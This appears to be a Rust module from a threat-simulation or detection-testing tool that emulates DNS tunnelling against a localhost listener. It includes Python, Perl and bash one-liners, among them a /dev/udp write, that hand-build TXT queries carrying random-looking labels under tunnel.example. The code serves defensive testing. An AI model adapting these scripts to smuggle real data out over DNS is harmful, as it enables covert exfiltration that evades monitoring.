//! DNS tunnelling: data in the names that are asked for.

use std::io::Write as _;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream, UdpSocket};

use super::{BASH, PERL, PYTHON, address, word};
use crate::simulate::listener::Talk;
use crate::simulate::sandbox::{Problem, Sandbox, step};
use crate::simulate::table::{Act, Log, Need, Proof, Sign, Threat, Variant};

pub(in crate::simulate) const DOMAIN: &str = "tunnel.example";
/// Queries of each variant.
const QUERIES: u64 = 20;

pub(crate) const THREAT: Threat =
    Threat { name: "dns-tunnelling", techniques: &["T1048", "T1071.004"], variants: VARIANTS };

macro_rules! tunnel {
    ($name:literal, $summary:literal, $needs:expr, $ip:expr, $tcp:literal, $act:expr, $domain:expr, |$stage:ident, $to:ident| $run:expr) => {
        Variant {
            name: $name,
            techniques: &["T1071.004", "T1048"],
            summary: $summary,
            layer: "dns",
            needs: $needs,
            log: Log::No,
            prepare: |$stage| {
                let $to = if $tcp {
                    $stage.listen_at($ip, 53, Talk::Listen)?
                } else {
                    $stage.datagrams($ip, 53)?
                };
                let act: Act = $run;
                let proof = if $tcp { Proof::Connected(1) } else { Proof::Connected(QUERIES) };
                Ok(act.sign(Sign::Dns { address: $to, domain: $domain }).proof(proof))
            },
            act: $act,
        }
    };
}

const HERE: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
const ROOT: &[Need] = &[Need::Root];

/// Twenty queries of the same data in python's, perl's and bash's words.
const PYTHON_SCRIPT: &str = "\
import os,socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
for n in range(20):
    labels=[os.urandom(24).hex().encode(),os.urandom(24).hex().encode(),b'tunnel',b'example']
    s.sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'+b''.join(bytes([len(l)])+l for l in labels)+b'\\0\\0\\x10\\0\\1',('127.0.0.1',53))
";
const PERL_SCRIPT: &str = "\
use Socket;socket(S,PF_INET,SOCK_DGRAM,17);$a=sockaddr_in(53,inet_aton('127.0.0.1'));
for $n(1..20){$d='';$d.=sprintf('%02x',rand 256) for 1..24;
send(S,pack('n6',0x1234,256,1,0,0,0).join('',map{chr(length).$_}$d,'tunnel','example').pack('Cnn',0,16,1),0,$a)}";
const BASH_SCRIPT: &str = "\
exec 3<>/dev/udp/127.0.0.1/53
for n in {1..20}; do d=$(printf '%04x' $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM $RANDOM)
printf '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x20'$d'\\x06tunnel\\x07example\\x00\\x00\\x10\\x00\\x01' >&3; done";

const VARIANTS: &[Variant] = &[
    tunnel!(
        "static-sendto",
        "a program of its own, each query with its address",
        ROOT,
        HERE,
        false,
        Some(ask),
        Some(DOMAIN),
        |stage, to| { stage.own([to.to_string(), "addressed".into()])? }
    ),
    tunnel!(
        "static-connected",
        "the same over a connected socket",
        ROOT,
        HERE,
        false,
        Some(ask),
        Some(DOMAIN),
        |stage, to| { stage.own([to.to_string(), "connected".into()])? }
    ),
    tunnel!(
        "static-ipv6",
        "the same over IPv6",
        ROOT,
        IpAddr::V6(Ipv6Addr::LOCALHOST),
        false,
        Some(ask),
        Some(DOMAIN),
        |stage, to| { stage.own([to.to_string(), "addressed".into()])? }
    ),
    tunnel!("static-tcp", "the same over TCP", ROOT, HERE, true, Some(ask), Some(DOMAIN), |stage, to| {
        stage.own([to.to_string(), "tcp".into()])?
    }),
    tunnel!(
        "python-txt",
        "python asks for TXT records",
        &[Need::Root, PYTHON],
        HERE,
        false,
        None,
        Some(DOMAIN),
        |_stage, _to| { Act::tool("python3", ["-c", PYTHON_SCRIPT])? }
    ),
    tunnel!(
        "perl-txt",
        "perl asks for TXT records",
        &[Need::Root, PERL],
        HERE,
        false,
        None,
        Some(DOMAIN),
        |_stage, _to| { Act::tool("perl", ["-e", PERL_SCRIPT])? }
    ),
    tunnel!(
        "bash-dev-udp",
        "bash writes to /dev/udp",
        &[Need::Root, BASH],
        HERE,
        false,
        None,
        // What `write` sends is counted, not read.
        None,
        |_stage, _to| { Act::tool("bash", ["-c", BASH_SCRIPT])? }
    ),
];

fn ask(sandbox: &Sandbox, words: &[String]) -> Result<(), Problem> {
    let to: SocketAddr = address(sandbox, words, 0)?;
    let how = word(words, 1)?;
    let from: IpAddr = if to.is_ipv4() { Ipv4Addr::LOCALHOST.into() } else { Ipv6Addr::LOCALHOST.into() };
    if how == "tcp" {
        let mut stream = step("connecting", TcpStream::connect(to))?;
        for n in 0..QUERIES {
            let query = query(n);
            let mut message = u16::try_from(query.len()).unwrap_or(0).to_be_bytes().to_vec();
            message.extend(query);
            step("asking", stream.write_all(&message))?;
        }
        return Ok(());
    }
    let socket = step("making a socket", UdpSocket::bind((from, 0)))?;
    if how == "connected" {
        step("connecting", socket.connect(to))?;
    }
    for n in 0..QUERIES {
        let query = query(n);
        step("asking", if how == "connected" { socket.send(&query) } else { socket.send_to(&query, to) })?;
    }
    Ok(())
}

/// A query for a TXT record whose name carries 48 digits that look random.
pub(in crate::simulate) fn query(n: u64) -> Vec<u8> {
    let mut state = n.wrapping_mul(0x9e37_79b9_7f4a_7c15).wrapping_add(0x5eed);
    let digits: String = (0..3)
        .map(|_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            format!("{state:016x}")
        })
        .collect();
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in std::iter::once(digits.as_str()).chain(DOMAIN.split('.')) {
        message.push(u8::try_from(label.len()).unwrap_or(0));
        message.extend(label.bytes());
    }
    message.extend([0, 0, 16, 0, 1]);
    message
}
